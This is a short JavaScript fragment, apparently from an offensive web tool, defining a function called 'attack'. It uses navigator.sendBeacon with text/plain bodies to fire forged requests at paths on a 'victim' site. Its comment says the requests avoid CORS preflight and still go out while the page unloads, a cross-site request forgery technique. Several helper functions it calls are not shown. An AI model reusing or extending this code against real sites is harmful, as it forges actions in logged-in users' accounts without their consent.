// Sent even while the page goes away, and never preflighted as text.
const attack = async (victim) => {
  await each(victim.acts, ({ path, body }) => navigator.sendBeacon(at(victim, path), new Blob([body], { type: 'text/plain' })));
  await pause(300);
};
